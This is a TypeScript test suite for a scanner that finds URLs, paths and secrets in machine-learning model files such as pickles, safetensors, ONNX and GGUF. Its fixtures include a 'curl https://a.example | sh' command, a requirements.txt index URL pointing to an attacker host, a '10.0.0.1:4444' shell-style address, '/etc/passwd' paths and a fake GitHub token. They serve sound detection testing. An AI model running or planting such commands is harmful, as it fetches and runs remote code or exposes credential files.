import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Report } from '../../shared/domain/report';
import { carriedSecret } from '../../shared/rules/catalog/carried-secret';
import { artifactToJson } from '../cli/json';
import { assemble } from '../engine/testing/assemble';
import { scanBytes } from './testing/scan-bytes';

const encode = (text: string) => new TextEncoder().encode(text);
const corpus = (file: string) => new Uint8Array(readFileSync(path.join(import.meta.dirname, '../../e2e/corpus', file)));
const URL_TEXT = 'https://attacker.example/stage2';
/** Nobody’s: in the form that its issuer gives them. */
const TOKEN = `ghp_${'q7Zt2Lw9Xk4Vb8Nc3Rm6Hd1Jf5Gs0PyTaUeQ'}`;

/** Indicators with the bytes that their places hold, for files whose bytes are those of the entry. */
function sightings(report: Report, bytes: Uint8Array): string[] {
  return report.indicators.map(({ type, value, source, range }) => {
    const there = new TextDecoder().decode(bytes.subarray(range.start, range.end));
    return `${source} ${type} ${value}${there === value ? '' : ` written ${there}`}`;
  });
}

/** A literal of which the end is passed over while opcodes are read. */
function longText(): Uint8Array {
  const body = encode(`${'x '.repeat(400_000)}${URL_TEXT}`);
  const bytes = new Uint8Array(7 + body.length + 1);
  bytes.set([0x80, 4, 0x58]);
  new DataView(bytes.buffer).setUint32(3, body.length, true);
  bytes.set(body, 7);
  bytes[7 + body.length] = 0x2e;
  return bytes;
}

describe('indicators, with the bytes that say them', () => {
  const literals = [
    ['SHORT_BINUNICODE', assemble(['PROTO', 4], ['SHORT_BINUNICODE', URL_TEXT], ['STOP'])],
    ['BINUNICODE', assemble(['PROTO', 2], ['BINUNICODE', URL_TEXT], ['STOP'])],
    ['BINUNICODE8', assemble(['PROTO', 4], ['BINUNICODE8', URL_TEXT], ['STOP'])],
    ['SHORT_BINBYTES', assemble(['PROTO', 3], ['SHORT_BINBYTES', URL_TEXT], ['STOP'])],
    ['BINBYTES', assemble(['PROTO', 3], ['BINBYTES', URL_TEXT], ['STOP'])],
    ['BYTEARRAY8', assemble(['PROTO', 5], ['BYTEARRAY8', URL_TEXT], ['STOP'])],
    ['BINSTRING', assemble(['PROTO', 2], ['BINSTRING', URL_TEXT], ['STOP'])],
    ['STRING', assemble(['PROTO', 2], ['STRING', `'${URL_TEXT}\\n'`], ['STOP'])],
    ['UNICODE', assemble(['PROTO', 2], ['UNICODE', URL_TEXT], ['STOP'])],
    ['a text longer than is held', longText()],
  ] as const;
  test.each(literals)('%s of a pickle', async (_, bytes) => {
    expect(sightings(await scanBytes(bytes), bytes)).toEqual([`literal url ${URL_TEXT}`]);
  });

  test.each([
    ['a.json', encode(`{"é": "${URL_TEXT}"}`), `document url ${URL_TEXT}`],
    ['a.yaml', encode(`a:\n  - "${URL_TEXT}"\n`), `document url ${URL_TEXT}`],
    ['a.xml', encode(`<?xml version="1.0"?><a b="${URL_TEXT}"/>`), `document url ${URL_TEXT}`],
    ['a.md', encode(`# Card\n\nSee [it](${URL_TEXT}).\n`), `text url ${URL_TEXT}`],
    ['a.py', encode(`import os\n\ndef f():\n    return "${URL_TEXT}"\n`), `source url ${URL_TEXT}`],
    ['requirements.txt', encode(`torch==2.0.0\n--index-url ${URL_TEXT}\n`), `text url ${URL_TEXT}`],
    ['a.bin', encode(`\u0001\u0002\u0003\u0004 ${URL_TEXT}\u0000\u0001`), `unexplained url ${URL_TEXT}`],
  ])('%s', async (name, bytes, expected) => {
    expect(sightings(await scanBytes(bytes, name), bytes)).toContain(expected);
  });

  test('headers, fields, attributes and constants of code', async () => {
    const header = encode(`{"__metadata__":{"source":"${URL_TEXT}"}}`);
    const safetensors = new Uint8Array(8 + header.length);
    safetensors[0] = header.length;
    safetensors.set(header, 8);
    expect(sightings(await scanBytes(safetensors, 'a.safetensors'), safetensors)).toEqual([`metadata url ${URL_TEXT}`]);
    const onnx = corpus('onnx/outside-absolute.onnx');
    expect(sightings(await scanBytes(onnx, 'a.onnx'), onnx)).toEqual(['metadata unixPath /etc/passwd']);
    const gguf = corpus('gguf/template_include.gguf');
    expect(sightings(await scanBytes(gguf, 'a.gguf'), gguf)).toEqual(['metadata unixPath /etc/passwd']);
    const keras = await scanBytes(corpus('keras/lambda.keras'), 'a.keras');
    expect(keras.indicators.map(({ type, source }) => `${source} ${type}`)).toEqual(['constant domain']);
  });

  test('numbers are not looked at: an array whose bytes spell an address', async () => {
    const noise = Uint8Array.from({ length: 4096 }, (_, i) => (i * 37) & 0xff);
    const bytes = assemble(['PROTO', 4], ['BINBYTES', Uint8Array.from([...noise, ...encode(URL_TEXT)])], ['STOP']);
    expect((await scanBytes(bytes)).indicators).toEqual([]);
  });

  test('decide nothing: a file full of them has no finding', async () => {
    const lines = [URL_TEXT, '10.0.0.1:4444', '/etc/passwd', 'C:\\Windows\\win.ini', 'curl https://a.example | sh'];
    const report = await scanBytes(encode(`${lines.join('\n')}\n`), 'a.txt');
    expect(report.indicators.length).toBeGreaterThan(5);
    expect([report.verdict, report.findings]).toEqual(['noFindings', []]);
  });

  test('a secret is a note, and in clear nowhere', async () => {
    const bytes = assemble(['PROTO', 4], ['SHORT_BINUNICODE', TOKEN], ['STOP']);
    const report = await scanBytes(bytes);
    expect(report.verdict).toBe('noFindings');
    expect(report.findings).toMatchObject([
      { ruleId: carriedSecret.id, severity: 'low', byteOffset: 4, byteLength: TOKEN.length },
    ]);
    expect(report.findings[0]?.message).toBe('The file carries a GitHub token: ghp_… (40 characters).');
    expect(JSON.stringify(artifactToJson('a', report))).not.toContain(TOKEN);
  });

  test('a vocabulary with pieces of addresses and paths says nothing', async () => {
    const pieces =
      'http https :// http:// www .com com .org self. self.assert std:: .py / /usr /tmp usr/bin ./ ../ C: \\ \\n \\\\ @ @gmail gmail 127. 0.0 1.0 Ġgithub Ġ.net .io sk- AKIA eyJ -----BEGIN -----END Ġcurl Ġ/bin'.split(
        ' ',
      );
    const words = [...pieces, ...Array.from({ length: 50_000 }, (_, i) => `Ġtoken${i.toString(36)}`)];
    const vocabulary = JSON.stringify({ model: { vocab: Object.fromEntries(words.map((word, i) => [word, i])) } });
    expect((await scanBytes(encode(vocabulary), 'tokenizer.json')).indicators).toEqual([]);
  });
});
